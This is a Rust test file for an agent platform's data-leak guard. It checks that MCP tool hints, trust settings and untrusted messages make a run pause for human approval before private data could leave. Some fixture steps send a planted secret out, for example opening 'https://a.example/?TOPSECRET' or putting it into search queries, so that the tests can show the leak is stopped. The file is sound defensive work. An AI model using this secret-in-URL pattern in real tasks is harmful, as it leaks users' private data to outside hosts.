//! Data can leave through reads: tools that only read the open world, untrusted messages, and trusted results.

use errand_testkit::{Team, TestApp};
use serde_json::{Value, json};
use wiremock::matchers::path;
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use crate::connections::{connect, options, respond};

/// An MCP server with tools of each kind, which records the called ones.
async fn server() -> MockServer {
    let server = MockServer::start().await;
    let tool = |name: &str, argument: &str, annotations: Value| {
        let properties = json!({argument: {"type": "string"}});
        json!({"name": name, "description": name, "annotations": annotations,
            "inputSchema": {"type": "object", "properties": properties}})
    };
    let tools = json!([
        tool(
            "search",
            "query",
            json!({"readOnlyHint": true, "openWorldHint": true})
        ),
        tool("open", "url", json!({"readOnlyHint": true})),
        tool(
            "find",
            "query",
            json!({"readOnlyHint": true, "openWorldHint": false})
        ),
        tool("look", "query", json!({"readOnlyHint": true})),
        tool(
            "wipe",
            "id",
            json!({"readOnlyHint": true, "destructiveHint": true})
        ),
    ]);
    Mock::given(path("/mcp"))
        .respond_with(move |request: &Request| {
            let Ok(body) = serde_json::from_slice::<Value>(&request.body) else {
                return ResponseTemplate::new(405);
            };
            let result = match body["method"].as_str() {
                Some("initialize") => json!({"protocolVersion": body["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "x", "version": "1"}}),
                Some("tools/list") => json!({"tools": tools}),
                Some("tools/call") => json!({"content": [{"type": "text", "text": "a result"}]}),
                _ => return ResponseTemplate::new(202),
            };
            let answer = json!({"jsonrpc": "2.0", "id": body["id"], "result": result});
            ResponseTemplate::new(200).set_body_json(answer)
        })
        .mount(&server)
        .await;
    server
}

async fn called(server: &MockServer) -> Vec<String> {
    let received = server.received_requests().await.unwrap();
    let bodies = received
        .iter()
        .filter_map(|r| serde_json::from_slice::<Value>(&r.body).ok());
    let calls = bodies.filter(|body| body["method"] == "tools/call");
    calls
        .map(|body| body["params"]["name"].as_str().unwrap().to_owned())
        .collect()
}

/// Starts a run of these calls, and returns its request, if any.
async fn asks(
    app: &TestApp,
    team: &Team,
    connection: &str,
    tools: Value,
    calls: &[&str],
) -> (String, Value) {
    let mut with = json!({"write_file": "allow", "read_file": "allow", "run_command": "guard"});
    for (name, policy) in tools.as_object().unwrap() {
        with[name] = policy.clone();
    }
    let mut steps =
        vec![json!({"tool": "write_file", "with": {"path": "secret.txt", "content": "TOPSECRET"}})];
    for call in calls {
        let arguments = match *call {
            "read_file" => json!({"path": "secret.txt"}),
            "run_command" => json!({"eur": 1}),
            "web__open" => json!({"url": "https://a.example/?TOPSECRET"}),
            _ => json!({"query": "TOPSECRET"}),
        };
        steps.push(json!({"tool": call, "with": arguments}));
    }
    let data = json!({"connections": [connection], "tools": with, "playbook": {"steps": steps}});
    let agent = app
        .agent(team, json!({"version": "v2", "data": data}))
        .await;
    let run = app.run(team, json!({"agent_id": agent})).await;
    app.settle().await;
    let got = app.get_run(team, &run).await;
    (run, got["pending_human_request"].clone())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reading_tool_sends_nothing_once_both_kinds_of_content_came() {
    let server = server().await;
    let app = TestApp::start_with(options(None)).await;
    let team = app.team("acme").await;
    let transport = json!({"type": "http", "url": format!("{}/mcp", server.uri())});
    let id = connect(&app, &team, "web", transport).await;
    let got = app
        .get(&team.key, &format!("/v1/connections/{id}"))
        .await
        .expect(200);
    let probed: Vec<_> = got["connection"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|tool| {
            (
                tool["name"].as_str().unwrap(),
                tool["policy"].as_str().unwrap(),
                tool["open_world"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        probed,
        [
            ("web__search", "guard", true),
            ("web__open", "guard", true),
            ("web__find", "allow", false),
            ("web__look", "allow", false),
            // Its hints contradict each other, so it counts as destructive.
            ("web__wipe", "ask", false),
        ]
    );
    let all = || json!({"web__*": "default"});
    // Public results alone do not cause a question, and neither does private content alone.
    let (_, asked) = asks(
        &app,
        &team,
        &id,
        all(),
        &["web__search", "web__open", "web__search"],
    )
    .await;
    assert_eq!(asked, Value::Null);
    let before = called(&server).await.len();
    for calls in [
        &["read_file", "web__search"][..],
        &["read_file", "web__open"],
        &["web__search", "web__find", "web__search"],
        &["web__wipe"],
    ] {
        let (run, asked) = asks(&app, &team, &id, all(), calls).await;
        let title = format!("Allow {}?", calls.last().unwrap());
        assert_eq!(asked["title"], title, "{calls:?}");
        respond(&app, &team, &run, json!({"approved": false})).await;
    }
    let made = called(&server).await;
    assert_eq!(
        made[before..],
        ["search".to_owned(), "find".to_owned()],
        "nothing that was asked for"
    );
    // An admin can override the hints of a tool.
    let path = format!("/v1/connections/{id}");
    let says = json!({"tool_settings": {"web__search": {"open_world": false}}});
    app.patch(&team.key, &path, says).await.expect(200);
    let (_, asked) = asks(&app, &team, &id, all(), &["read_file", "web__search"]).await;
    assert_eq!(asked, Value::Null);
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_is_set_for_each_tool_by_name() {
    let server = server().await;
    let app = TestApp::start_with(options(None)).await;
    let team = app.team("acme").await;
    let transport = json!({"type": "http", "url": format!("{}/mcp", server.uri())});
    let id = connect(&app, &team, "web", transport).await;
    let path = format!("/v1/connections/{id}");
    let trusted = |made: &Value| -> Vec<String> {
        let tools = made["connection"]["tools"].as_array().unwrap().iter();
        let tools = tools.filter(|tool| tool["trusted"] == true);
        tools
            .map(|tool| tool["name"].as_str().unwrap().to_owned())
            .collect()
    };
    let made = app
        .patch(&team.key, &path, json!({"trusted": true}))
        .await
        .expect(200);
    assert_eq!(trusted(&made), ["web__find", "web__look", "web__wipe"]);
    let warning = made["warnings"][0]["message"].as_str().unwrap();
    assert!(
        warning.contains("web__find, web__look, web__wipe") && !warning.contains("search"),
        "{warning}"
    );
    let one = json!({"trusted": false, "tool_settings": {"web__find": {"trusted": true}}});
    let made = app.patch(&team.key, &path, one).await.expect(200);
    assert_eq!(trusted(&made), ["web__find"]);
    let warning = made["warnings"][0]["message"].as_str().unwrap();
    assert!(
        warning.contains("web__find") && !warning.contains("look"),
        "{warning}"
    );
    // Trusted results do not taint; others do.
    let all = || json!({"web__*": "default"});
    let (_, asked) = asks(&app, &team, &id, all(), &["web__find", "run_command"]).await;
    assert_eq!(asked, Value::Null);
    let (_, asked) = asks(&app, &team, &id, all(), &["web__look", "run_command"]).await;
    assert_eq!(
        asked["reason"]["sources"][0]["tool"], "web__look",
        "{asked}"
    );
    // A tool that reaches the open world is never trusted.
    for (settings, word) in [
        (json!({"web__search": {"trusted": true}}), "open world"),
        (
            json!({"mail__search": {"trusted": true}}),
            "is not a tool of this connection",
        ),
        (json!({"web__find": {"trust": true}}), "trust"),
    ] {
        let (_, message) = app
            .patch(&team.key, &path, json!({"tool_settings": settings}))
            .await
            .error(400);
        assert!(message.contains(word), "{message}");
    }
    let none = json!({"tool_settings": {}});
    let made = app.patch(&team.key, &path, none).await.expect(200);
    assert_eq!((trusted(&made).len(), &made["warnings"]), (0, &json!([])));
    app.finish().await;
}

#[tokio::test]
async fn a_message_that_is_marked_as_untrusted_taints_like_a_page() {
    let app = TestApp::start().await;
    let team = app.team("acme").await;
    let steps = json!([{"tool": "run_command", "with": {"eur": 1}}, {"finish": "done"}]);
    let data = json!({"tools": {"run_command": "guard"}, "playbook": {"steps": steps}});
    let agent = app
        .agent(&team, json!({"version": "v2", "data": data}))
        .await;
    let trusted = app
        .run(
            &team,
            json!({"agent_id": agent, "message": "Pay.", "untrusted": false}),
        )
        .await;
    app.settle().await;
    assert_eq!(app.status(&team, &trusted).await, "completed");
    let run = app
        .run(
            &team,
            json!({"agent_id": agent, "message": "Pay.", "untrusted": true}),
        )
        .await;
    app.settle().await;
    let asked = app.get_run(&team, &run).await["pending_human_request"].clone();
    let messages = app.messages(&team, &run).await;
    let source = &asked["reason"]["sources"][0];
    assert_eq!(
        (&source["tool"], &source["item"]),
        (&json!("message"), &messages[0]["id"])
    );
    assert_eq!(messages[0]["untrusted"], true);
    // A later message also taints.
    let path = format!("/v1/runs/{trusted}/messages");
    let body = json!({"message": "Pay again.", "untrusted": true});
    let made = app.post(&team.key, &path, body).await.expect(201);
    assert_eq!(made["message"]["untrusted"], true);
    app.settle().await;
    let asked = app.get_run(&team, &trusted).await["pending_human_request"].clone();
    assert_eq!(
        asked["reason"]["sources"].as_array().map(Vec::len),
        Some(2),
        "{asked}"
    );
    let (_, message) = app
        .post(
            &team.key,
            "/v1/runs",
            json!({"agent_id": agent, "untrusted": true}),
        )
        .await
        .error(400);
    assert!(message.contains("untrusted"), "{message}");
    app.finish().await;
}
